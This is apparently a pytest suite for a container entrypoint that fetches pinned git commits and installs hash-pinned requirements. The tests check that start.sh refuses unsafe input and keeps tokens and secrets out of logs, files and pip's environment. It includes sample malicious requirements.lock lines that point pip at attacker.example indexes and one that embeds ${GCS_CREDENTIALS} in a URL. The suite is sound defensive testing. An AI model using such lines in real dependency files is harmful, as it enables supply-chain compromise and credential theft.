"""start.sh, the container entrypoint, against a real local git repository over file:// (and over http://, served
from this process with basic authentication, for the credentials).

The "baked" code and the repository's code are stub projects whose `python -m server` prints a marker, so each
test sees which code ran, with which arguments, and whether the requirements it installed are importable.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
START_SH = REPO / "start.sh"
TIMEOUT_S = 240  # a hang guard only

MAIN_PY = """import os, sys
try:
    import stubdep
    dep = stubdep.MARK
except ImportError:
    dep = "none"
print("MARKER {marker} dep=" + dep + " source=" + os.environ.get("CODE_SOURCE", "?")
      + " commit=" + os.environ.get("CODE_COMMIT", "-") + " args=" + " ".join(sys.argv[1:]))
"""


def git(cwd: Path, *args: str) -> str:
    result = subprocess.run(
        ["git", *args], cwd=cwd, capture_output=True, text=True, check=True,
        env={**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com",
             "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"},
    )  # fmt: skip
    return result.stdout.strip()


def write_project(folder: Path, marker: str) -> None:
    (folder / "server").mkdir(parents=True, exist_ok=True)
    (folder / "server" / "__init__.py").write_text("")
    (folder / "server" / "__main__.py").write_text(MAIN_PY.format(marker=marker))


def commit_all(repo: Path, message: str) -> str:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)
    return git(repo, "rev-parse", "HEAD")


def make_wheel(folder: Path, version: str) -> Path:
    """A minimal pure-Python wheel `stubdep`, written by hand (pip installs it offline, no build step)."""
    dist = f"stubdep-{version}.dist-info"
    files = {
        "stubdep/__init__.py": f"MARK = 'stubdep-{version}'\n",
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: stubdep\nVersion: {version}\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(text.encode())}")
    record.append(f"{dist}/RECORD,,")
    files[f"{dist}/RECORD"] = "\n".join(record) + "\n"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"stubdep-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return path


@pytest.fixture
def setup(tmp_path):
    """A baked stub at APP_DIR, a git repository (branch main: v1 then v2; tag v1) and a CODE_DIR."""
    baked = tmp_path / "baked"
    write_project(baked, "BAKED")
    origin = tmp_path / "origin"
    origin.mkdir()
    git(origin, "init", "-q", "-b", "main")
    write_project(origin, "FETCHED-v1")
    v1 = commit_all(origin, "v1")
    git(origin, "tag", "v1")
    write_project(origin, "FETCHED-v2")
    v2 = commit_all(origin, "v2")
    return {"tmp": tmp_path, "baked": baked, "origin": origin, "v1": v1, "v2": v2, "code": tmp_path / "code"}


def run_start(setup, *args: str, **env: str) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "PIP_", "CODE_"))}
    base.pop("GIT_ASKPASS", None)
    base.pop("SSH_ASKPASS", None)
    base.update(
        APP_DIR=str(setup["baked"]), CODE_DIR=str(setup["code"]), PYTHON_BIN=sys.executable,
        PIP_NO_INDEX="1",  # the tests never reach a package index
        PIP_CONFIG_FILE=os.devnull,  # nor read this machine's pip configuration
        GIT_TIMEOUT_S="60",
    )  # fmt: skip
    base.update(env)
    result = subprocess.run(
        ["bash", str(START_SH), *args], cwd=setup["tmp"], env=base, capture_output=True, text=True, timeout=TIMEOUT_S
    )
    assert result.returncode == 0, result.stderr
    return result


def url(setup) -> str:
    return setup["origin"].as_uri()


UNPINNED = {"CODE_REFRESH_ALLOW_UNPINNED": "true"}
NO_HASH = "0" * 64


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def pinned_wheel(origin: Path, version: str) -> str:
    """A requirements line for a stubdep wheel committed in the repository, pinned by its hash."""
    wheel = make_wheel(origin / "wheels", version)
    return f"./wheels/{wheel.name} --hash=sha256:{sha256(wheel)}\n"


def test_without_a_repository_the_baked_code_runs_with_the_arguments(setup):
    result = run_start(setup, "--rp_serve_api", "--rp_api_port", "8000")
    assert result.stdout.strip() == "MARKER BAKED dep=none source=baked commit=- args=--rp_serve_api --rp_api_port 8000"
    assert not setup["code"].exists()


def test_a_pinned_commit_is_fetched_and_run(setup):
    result = run_start(setup, "--x", GITHUB_REPO_URL=url(setup), GITHUB_REF=setup["v2"])
    assert result.stdout.strip() == f"MARKER FETCHED-v2 dep=none source=fetched commit={setup['v2']} args=--x"
    assert (setup["code"] / "trees" / setup["v2"] / "server" / "__main__.py").is_file()
    assert "WARNING" not in result.stderr


def test_the_pinned_commit_runs_even_when_it_is_not_the_tip_or_upper_case(setup):
    result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=setup["v1"].upper())
    assert result.stdout.startswith(f"MARKER FETCHED-v1 dep=none source=fetched commit={setup['v1']} ")


@pytest.mark.parametrize("ref", ["unset", "v1", "short-commit", "branch"])
def test_an_unpinned_ref_is_refused_unless_allowed(setup, ref):
    origin = setup["origin"]
    git(origin, "branch", "old", setup["v1"])
    pinned = {"unset": "", "v1": "v1", "short-commit": setup["v1"][:10], "branch": "old"}[ref]
    refused = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=pinned)
    assert refused.stdout.startswith("MARKER BAKED ")
    assert "GITHUB_REF must be a full 40-hex commit sha" in refused.stderr
    assert "CODE_REFRESH_ALLOW_UNPINNED=true" in refused.stderr
    assert not (setup["code"] / "repo.git").exists(), "nothing is fetched for a refused ref"

    allowed = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=pinned, **UNPINNED)
    expected = "v2" if ref == "unset" else "v1"  # unset: the remote's default branch
    assert allowed.stdout.startswith(f"MARKER FETCHED-{expected} dep=none source=fetched commit={setup[expected]} ")
    assert "WARNING: running unpinned code" in allowed.stderr


@pytest.mark.parametrize("kind", ["branch", "tag"])
def test_a_branch_or_tag_named_like_the_pinned_sha_does_not_shadow_the_commit(setup, kind):
    """A push of a branch (or tag) named after the pinned sha, pointing elsewhere, must not change what runs."""
    origin = setup["origin"]
    write_project(origin, "FETCHED-evil")
    evil = commit_all(origin, "evil")
    git(origin, kind, setup["v1"], evil)
    result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=setup["v1"])
    assert result.stdout.startswith(f"MARKER FETCHED-v1 dep=none source=fetched commit={setup['v1']} ")
    # Allowing unpinned refs does not change how a full sha is read either.
    result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=setup["v1"], **UNPINNED)
    assert result.stdout.startswith(f"MARKER FETCHED-v1 dep=none source=fetched commit={setup['v1']} ")


def test_a_sha_that_is_not_a_commit_of_the_repository_falls_back(setup):
    tree = git(setup["origin"], "rev-parse", "HEAD^{tree}")  # an object, but not a commit
    for ref in ("f" * 40, tree):
        result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=ref)
        assert result.stdout.startswith("MARKER BAKED ")
        assert f"GITHUB_REF {ref} is not a commit of" in result.stderr


def test_a_new_push_is_picked_up_by_the_next_start_only_when_unpinned(setup):
    assert "FETCHED-v2" in run_start(setup, GITHUB_REPO_URL=url(setup), **UNPINNED).stdout
    write_project(setup["origin"], "FETCHED-v3")
    v3 = commit_all(setup["origin"], "v3")
    pinned = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=setup["v2"])
    assert pinned.stdout.startswith(f"MARKER FETCHED-v2 dep=none source=fetched commit={setup['v2']} ")
    result = run_start(setup, GITHUB_REPO_URL=url(setup), **UNPINNED)
    assert result.stdout.startswith(f"MARKER FETCHED-v3 dep=none source=fetched commit={v3} ")
    # The previous tree is pruned; only the running one is kept.
    assert sorted(p.name for p in (setup["code"] / "trees").iterdir()) == [v3]


def test_an_unreachable_repository_falls_back_to_the_baked_code(setup):
    missing = (setup["tmp"] / "no-such-repo").as_uri()
    result = run_start(setup, "--a", GITHUB_REPO_URL=missing, GITHUB_REF=setup["v1"])
    assert result.stdout.strip() == "MARKER BAKED dep=none source=baked commit=- args=--a"
    assert "cannot fetch" in result.stderr and "falling back to the baked code" in result.stderr


def test_a_bad_ref_falls_back_to_the_baked_code(setup):
    result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF="no-such-branch", **UNPINNED)
    assert result.stdout.startswith("MARKER BAKED ")
    assert "GITHUB_REF 'no-such-branch' names no branch, tag or commit" in result.stderr


def test_a_repository_that_is_not_this_project_falls_back(setup):
    other = setup["tmp"] / "other"
    other.mkdir()
    git(other, "init", "-q", "-b", "main")
    (other / "README").write_text("not a worker\n")
    sha = commit_all(other, "other")
    result = run_start(setup, GITHUB_REPO_URL=other.as_uri(), GITHUB_REF=sha)
    assert result.stdout.startswith("MARKER BAKED ")
    assert "has no server/__main__.py" in result.stderr
    # Nothing half-made is left where a later start would pick it up.
    assert not (setup["code"] / "trees" / sha).exists()
    assert list((setup["code"] / "trees").glob(".incoming.*")) == []


def test_a_killed_run_leaves_nothing_that_is_used(setup):
    leftover = setup["code"] / "trees" / ".incoming.abc123"
    leftover.mkdir(parents=True)
    (leftover / "half-written").write_text("")
    result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=setup["v2"])
    assert "FETCHED-v2" in result.stdout and not leftover.exists()


def files_holding(folder: Path, secret: str) -> list[str]:
    return sorted(str(path) for path in folder.rglob("*") if path.is_file() and secret.encode() in path.read_bytes())


def test_a_credential_in_the_url_is_not_logged_nor_written(setup):
    result = run_start(
        setup, GITHUB_REPO_URL="https://user:s3cret-token@127.0.0.1:9/repo.git", GITHUB_REF=setup["v1"],
        GIT_TIMEOUT_S="20",
    )  # fmt: skip
    assert result.stdout.startswith("MARKER BAKED ")
    assert "s3cret-token" not in result.stderr and "https://127.0.0.1:9/repo.git" in result.stderr
    assert files_holding(setup["code"], "s3cret-token") == []
    config = setup["code"] / "repo.git" / "config"
    assert "url = https://127.0.0.1:9/repo.git" in config.read_text()


class _AuthenticatedFiles(http.server.SimpleHTTPRequestHandler):
    """Git's "dumb" HTTP protocol: the bare repository's files, behind basic authentication."""

    expected = ""
    seen: list[str] = []

    def do_GET(self):  # noqa: N802 (the standard library's name)
        self.seen.append(self.headers.get("Authorization", ""))
        if self.headers.get("Authorization") != self.expected:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="test"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        super().do_GET()

    def log_message(self, *args):
        pass


@pytest.fixture
def http_origin(setup):
    """The origin repository served over http://127.0.0.1 (dumb protocol), readable with user:s3cret-token only."""
    served = setup["tmp"] / "served.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(setup["origin"]), str(served)], check=True)
    subprocess.run(["git", "--git-dir", str(served), "update-server-info"], check=True)
    handler = type("Handler", (_AuthenticatedFiles,), {
        "expected": "Basic " + base64.b64encode(b"user:s3cret-token").decode(), "seen": [],
    })  # fmt: skip
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(handler, directory=str(served)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield {"url": f"http://127.0.0.1:{server.server_address[1]}/", "seen": handler.seen}
    server.shutdown()
    server.server_close()


def test_a_token_reaches_the_server_but_no_file_nor_command_line(setup, http_origin):
    host = http_origin["url"].removeprefix("http://")
    result = run_start(
        setup, GITHUB_REPO_URL=f"http://user:s3cret-token@{host}", GITHUB_REF=setup["v2"],
        no_proxy="127.0.0.1", NO_PROXY="127.0.0.1",
    )  # fmt: skip
    assert result.stdout.startswith(f"MARKER FETCHED-v2 dep=none source=fetched commit={setup['v2']} "), result.stderr
    assert any(header.startswith("Basic ") for header in http_origin["seen"]), "the credentials were used"
    assert "s3cret-token" not in result.stderr
    assert files_holding(setup["code"], "s3cret-token") == []
    assert f"url = {http_origin['url']}" in (setup["code"] / "repo.git" / "config").read_text()
    # Not on a command line either: the token travels in the environment of git's credential helper.
    start = START_SH.read_text()
    assert "credential.helper=$CREDENTIAL_HELPER" in start and "START_SH_GIT_PASS=" in start


def test_a_wrong_token_falls_back(setup, http_origin):
    host = http_origin["url"].removeprefix("http://")
    result = run_start(
        setup, GITHUB_REPO_URL=f"http://user:not-the-t0ken@{host}", GITHUB_REF=setup["v2"],
        no_proxy="127.0.0.1", NO_PROXY="127.0.0.1",
    )  # fmt: skip
    assert result.stdout.startswith("MARKER BAKED ")
    assert "cannot fetch" in result.stderr and "not-the-t0ken" not in result.stderr


def test_requirements_install_once_into_an_overlay_and_only_when_they_change(setup):
    origin = setup["origin"]
    (origin / "requirements.txt").write_text(pinned_wheel(origin, "1.0"))
    sha = commit_all(origin, "needs stubdep 1.0")

    first = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=sha)
    assert " dep=stubdep-1.0 source=fetched " in first.stdout, first.stderr
    assert "requirements changed: installing requirements.txt" in first.stderr
    # The image's own environment did not get the package: the baked code still runs without it.
    assert "dep=none" in run_start(setup).stdout

    again = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=sha)
    assert " dep=stubdep-1.0 " in again.stdout
    assert "requirements unchanged" in again.stderr and "installing" not in again.stderr

    # requirements.lock wins over requirements.txt, and a new content means a new install.
    (origin / "requirements.lock").write_text("# a comment\n" + pinned_wheel(origin, "2.0").replace(" --", " \\\n    --"))
    sha = commit_all(origin, "lock stubdep 2.0")
    upgraded = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=sha)
    assert " dep=stubdep-2.0 " in upgraded.stdout, upgraded.stderr
    assert "installing requirements.lock" in upgraded.stderr
    assert len(list((setup["code"] / "envs").iterdir())) == 1


def test_a_wheel_that_does_not_match_its_hash_is_not_installed(setup):
    origin = setup["origin"]
    wheel = make_wheel(origin / "wheels", "1.0")
    (origin / "requirements.lock").write_text(f"./wheels/{wheel.name} --hash=sha256:{NO_HASH}\n")
    sha = commit_all(origin, "tampered wheel")
    result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=sha)
    assert result.stdout.startswith("MARKER BAKED ")
    assert "installing requirements.lock failed" in result.stderr and "HASHES" in result.stderr.upper()
    assert list((setup["code"] / "envs").iterdir()) == []


@pytest.mark.parametrize(
    ("lock", "why"),
    [
        ("{wheel}\n", "has no --hash=sha256:"),
        ("--index-url https://attacker.example/simple\n{wheel} --hash=sha256:{digest}\n", "option line (--index-url)"),
        ("--extra-index-url=https://attacker.example/simple\n", "option line (--extra-index-url)"),
        ("-f https://attacker.example/wheels\n", "option line (-f)"),
        ("--trusted-host attacker.example\n", "option line (--trusted-host)"),
        ("-e ./wheels\n", "option line (-e)"),
        ("-r other.txt\n", "option line (-r)"),
        ("{wheel} --hash=sha256:{digest} --config-settings=x=y\n", "options other than --hash=sha256: (--config-settings)"),
        ("{wheel} \\\n    --index-url=https://attacker.example/simple \\\n    --hash=sha256:{digest}\n", "(--index-url)"),
        ("https://attacker.example/${{GCS_CREDENTIALS}}/x.whl --hash=sha256:{digest}\n", "environment variable"),
    ],
    ids=["no-hash", "index-url", "extra-index-url", "find-links", "trusted-host", "editable", "include",
         "per-requirement-option", "continued-option", "variable"],
)  # fmt: skip
def test_a_lock_without_hashes_or_with_options_is_refused(setup, lock, why):
    origin = setup["origin"]
    wheel = make_wheel(origin / "wheels", "1.0")
    text = lock.format(wheel=f"./wheels/{wheel.name}", digest=sha256(wheel))
    (origin / "requirements.lock").write_text(text)
    sha = commit_all(origin, "suspicious lock")
    result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=sha)
    assert result.stdout.startswith("MARKER BAKED ")
    assert f"requirements.lock of commit {sha} refused:" in result.stderr and why in result.stderr
    assert "installing" not in result.stderr
    assert list((setup["code"] / "envs").iterdir()) == []


SECRETS = {
    "GCS_CREDENTIALS": '{"private_key": "SECRET-gcs"}', "GOOGLE_APPLICATION_CREDENTIALS": "/SECRET-gac.json",
    "API_KEY": "SECRET-api", "RUNPOD_AI_API_KEY": "SECRET-runpod", "AWS_SECRET_ACCESS_KEY": "SECRET-aws",
    "GITHUB_TOKEN": "SECRET-github",
}  # fmt: skip


def test_pip_runs_without_the_workers_secrets(setup):
    """PYTHON_BIN is an "image" whose `pip` records the environment it was started with, then fails."""
    image = setup["tmp"] / "image"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(image)], check=True)
    site = subprocess.run(
        [str(image / "bin" / "python"), "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
        capture_output=True, text=True, check=True,
    ).stdout.strip()  # fmt: skip
    record = setup["tmp"] / "pip-env.json"
    (Path(site) / "pip").mkdir()
    (Path(site) / "pip" / "__init__.py").write_text("")
    (Path(site) / "pip" / "__main__.py").write_text(
        f"import json, os, sys\njson.dump(dict(os.environ), open({str(record)!r}, 'w'))\nsys.exit(3)\n"
    )
    origin = setup["origin"]
    (origin / "requirements.lock").write_text(pinned_wheel(origin, "1.0"))
    sha = commit_all(origin, "needs stubdep")
    result = run_start(
        setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=sha, PYTHON_BIN=str(image / "bin" / "python"),
        HOME=str(setup["tmp"]), PIP_DEFAULT_TIMEOUT="7", **SECRETS,
    )  # fmt: skip
    assert result.stdout.startswith("MARKER BAKED ")
    assert "installing requirements.lock failed" in result.stderr
    seen = json.loads(record.read_text())
    assert sorted(name for name in SECRETS if name in seen) == []
    assert not any("SECRET-" in value for value in seen.values())
    # What pip needs still reaches it: the search path, the home folder, the operator's pip settings.
    assert seen["PATH"] == os.environ["PATH"] and seen["HOME"] == str(setup["tmp"])
    assert seen["PIP_DEFAULT_TIMEOUT"] == "7" and seen["PIP_NO_INDEX"] == "1"


def test_a_failing_install_falls_back_without_leaving_an_environment(setup):
    origin = setup["origin"]
    (origin / "requirements.txt").write_text(f"no-such-package-xtts-test==0.0.0 --hash=sha256:{NO_HASH}\n")
    sha = commit_all(origin, "impossible requirement")
    result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=sha)
    assert result.stdout.startswith("MARKER BAKED ")
    assert "installing requirements.txt failed" in result.stderr
    assert list((setup["code"] / "envs").iterdir()) == []


def test_the_projects_own_lock_passes_start_shs_check():
    """The lock this repository ships is what a refresh of this repository installs: it must not be refused."""
    check = START_SH.read_text().split("check_requirements() {\n", 1)[1].split("\n}\n", 1)[0]
    script = check.split("<<'PY'\n", 1)[1].rsplit("\nPY", 1)[0]
    for lock in ("requirements.lock", "requirements-test.lock"):
        result = subprocess.run([sys.executable, "-", str(REPO / lock)], input=script, capture_output=True, text=True)
        assert result.returncode == 0, f"{lock}: {result.stdout}{result.stderr}"


def test_code_that_does_not_import_falls_back(setup):
    origin = setup["origin"]
    (origin / "server" / "__init__.py").write_text("raise ImportError('broken push')\n")
    sha = commit_all(origin, "broken")
    result = run_start(setup, GITHUB_REPO_URL=url(setup), GITHUB_REF=sha)
    assert result.stdout.startswith("MARKER BAKED ")
    assert "does not import" in result.stderr


def test_start_sh_is_clean_under_shellcheck():
    shellcheck = shutil.which("shellcheck") or str(Path(sys.executable).with_name("shellcheck"))
    result = subprocess.run([shellcheck, "--severity=style", str(START_SH)], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_start_sh_is_strict_and_executable():
    text = START_SH.read_text()
    assert text.startswith("#!/usr/bin/env bash\n")
    assert "\nset -euo pipefail\n" in text
    assert os.access(START_SH, os.X_OK)
